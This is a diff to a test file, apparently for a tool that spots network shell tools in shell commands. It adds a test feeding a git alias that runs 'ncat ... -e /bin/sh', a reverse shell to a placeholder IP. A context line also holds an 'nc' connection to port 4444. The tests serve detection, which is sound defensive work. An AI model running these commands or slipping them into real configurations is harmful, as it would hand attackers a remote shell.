@@ -891,3 +891,10 @@ def test_shell_option_before_a_shebang_script_and_data_arguments() -> None:
     assert "nc" in names(f)
     events, f = flow(("file", "data.txt", "nc 203.0.113.5 4444\n"), "bash run.sh data.txt")
     assert f.events == () and f.mentions == (write_index(events, "data.txt"),)
+
+
+def test_git_alias_given_on_the_command_line() -> None:
+    _, f = flow("git -c alias.up='!ncat 198.51.100.70 4444 -e /bin/sh' up")
+    assert "ncat" in names(f)
+    _, f = flow("git -c user.name=dev commit -m x")
+    assert f.events == ()
